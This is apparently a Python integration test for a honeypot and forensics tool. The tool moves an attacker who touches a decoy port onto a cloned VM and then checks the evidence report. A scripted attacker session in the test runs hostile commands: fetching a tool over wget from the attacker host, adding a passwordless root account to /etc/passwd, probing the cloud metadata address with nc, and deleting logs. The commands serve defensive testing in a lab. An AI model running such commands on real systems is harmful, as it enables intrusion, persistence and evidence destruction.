#!/usr/bin/env python3
"""An attack from beginning to end on a Linux server, as the evidence of its clone tells it."""

import json
import subprocess
import time
import unittest

import harness
import intercept_site
import linux_guest_test
import overlay_test
import peers
from evidence_test import run

DECOY = 2222
RULES = f"""
[detect]
decoy_ports = [{DECOY}]

[[rule]]
name = "touched-a-decoy"
source = ["decoy"]
action = "fork"
policy = "honeywall"
"""
# Says what it reads to the server's telnet port, and the other way round.
TELNET = """
import socket, sys, threading
server = socket.create_connection((sys.argv[1], 23), 60)
def show():
    while data := server.recv(4096):
        sys.stdout.buffer.write(data)
        sys.stdout.buffer.flush()
threading.Thread(target=show, daemon=True).start()
for line in sys.stdin:
    server.sendall(line.rstrip("\\n").encode() + b"\\r\\n")
"""
TOOL = "#!/bin/sh\nexec sleep 4321\n"


class AttackTest(unittest.TestCase):
    images = None
    snapshot = None

    def setUp(self):
        self.site = intercept_site.Site(self.images, self.snapshot)
        self.addCleanup(self.site.close)

    def detect(self, attacker):
        """He touches a decoy, and is moved to a clone; its name."""
        site = self.site
        rules = site.workspace.path / "rules.toml"
        rules.write_text(RULES)
        log = site.workspace.path / "decisions.json"
        watch = site.program(harness.IVMM, "watch", rules, "--guest", "linux", "--log", log)
        watch.wait_for("runs")
        subprocess.run(attacker.prefix("python3", "-c", "import socket; socket.socket().connect_ex("
                                       f"('{intercept_site.GUEST}', {DECOY}))"), check=True)
        done = harness.eventually(
            lambda: [one for one in map(json.loads, log.read_text().splitlines())
                     if one["eventid"] == "ivmm.watch.done"], 60)
        self.assertTrue(done, watch.log)
        return done[0]["outcome"]["clone"]

    def attack(self, attacker):
        """Logs in, is noticed, and does what attackers do."""
        site = self.site
        telnet = site.program(*attacker.prefix("python3", "-c", TELNET, intercept_site.GUEST))
        telnet.wait_for("login: ")
        telnet.type("root\n")
        telnet.wait_for("# ")
        hacks = harness.Shell(telnet)
        clone = self.detect(attacker)
        hacks.run(f"wget -O /tmp/tool http://{attacker.address}:8000/tool")
        hacks.run("echo evil::0:0::/root:/bin/sh >>/etc/passwd")
        hacks.run("chmod +x /tmp/tool; { /tmp/tool & }")
        hacks.run("nc -w 2 169.254.169.254 80 </dev/null")
        hacks.run("rm /tmp/tool /root/log; sync; sleep 1")
        return clone

    def test_the_report_tells_all_of_it(self):
        site = self.site
        attacker = site.peer("att", "198.51.100")
        shell = site.start()
        shell.run("sed -i s/^root:x:/root::/ /etc/passwd; echo logged in >/root/log; sync")
        tools = site.workspace.path / "tools"
        tools.mkdir()
        (tools / "tool").write_text(TOOL)
        site.program(*attacker.prefix("python3", "-m", "http.server", "8000", "--directory", tools))
        clone = self.attack(attacker)

        out = site.workspace.path / "evidence"
        begin = time.monotonic()
        site.ivmm("evidence", clone, out)
        print(f"collected in {time.monotonic() - begin:.1f} s", flush=True)
        run("sha256sum", "--strict", "-c", "SHA256SUMS", cwd=out)
        self.check_files(out, attacker)
        self.check_report((out / "report.html").read_text(), attacker)
        self.check_images(out)

        # And when it has ended.
        site.ivmm("stop", clone)
        harness.eventually(lambda: clone not in site.ivmm("ls"))
        after = site.workspace.path / "after"
        site.ivmm("evidence", clone, after)
        self.assertEqual(self.lines(after / "disk0-files.jsonl"),
                         self.lines(out / "disk0-files.jsonl"))
        self.assertTrue((after / "console.txt").exists())
        self.assertIn("/etc/passwd", (after / "report.html").read_text())
        site.ivmm("rm", clone)
        self.assertEqual(list((site.workspace.path / "ivmm").glob(f"{clone}.t*")), [])

    @staticmethod
    def lines(path):
        return [json.loads(line) for line in path.read_text().splitlines()]

    def check_files(self, out, attacker):
        manifest = json.loads((out / "manifest.json").read_text())
        self.assertEqual(manifest["missing"], [])
        cause = json.loads((out / "clone.json").read_text())["cause"]
        self.assertEqual((cause["rule"], cause["attacker"]), ("touched-a-decoy", attacker.address))
        files = {one["path"]: one for one in self.lines(out / "disk0-files.jsonl")}
        self.assertEqual(files["/etc/passwd"]["content"], True)
        self.assertEqual(files["/root/log"]["kind"], "removed")
        self.assertNotIn("/srv/www/index.html", files)
        programs = json.loads((out / "memory.json").read_text())["programs"]
        self.assertIn(["sleep", "4321"], [one["arguments"] for one in programs])
        sessions = self.lines(out / "sessions.jsonl")
        typed = "".join(words["text"] for one in sessions if one["local_port"] == 23
                        for words in one["words"] if words["from"] == "remote")
        self.assertIn("wget -O /tmp/tool", typed)
        told = [one["datetime"] for one in self.lines(out / "timeline.jsonl")]
        self.assertEqual(told, sorted(told))

    def check_report(self, report, attacker):
        for step in ("touched-a-decoy", f"moved the connections of <b>{attacker.address}</b>",
                     "which was open at the fork",           # he is logged in
                     f"wget -O /tmp/tool http://{attacker.address}:8000/tool",
                     "GET /tool HTTP/1.1", TOOL.splitlines()[1],    # and what he has got
                     "/etc/passwd", "sleep 4321",
                     "169.254.169.254:80: no answer",
                     "rm /tmp/tool /root/log", "/root/log"):
            self.assertIn(step, report)

    def check_images(self, out):
        for image in ("disk0", "disk0-fork"):
            raw = out.parent / f"{image}.raw"
            run("qemu-img", "convert", "-O", "raw", out / f"{image}.qcow2", raw)
            # 1: what is in the journal has been replayed.
            checked = subprocess.run(["e2fsck", "-fp", raw], capture_output=True, text=True)
            self.assertIn(checked.returncode, (0, 1), checked.stdout)
        self.assertIn("evil", linux_guest_test.file_in(out.parent / "disk0.raw", "/etc/passwd"))
        self.assertNotIn("evil", linux_guest_test.file_in(out.parent / "disk0-fork.raw",
                                                          "/etc/passwd"))
        for core in ("memory", "memory-fork"):
            self.assertIn("rip", run("gdb", "-batch", "-nx", "-ex", "info registers rip", "-c",
                                     out / f"{core}.elf"))
        peers.run("tshark", "-r", out / "captures/linux-clone-1.0001.pcapng")


if __name__ == "__main__":
    harness.require_kvm()
    overlay_test.require_fuse()
    harness.enter_own_network()
    AttackTest.images = harness.LinuxImages()
    AttackTest.snapshot = harness.LinuxSnapshot(AttackTest.images)
    harness.main()
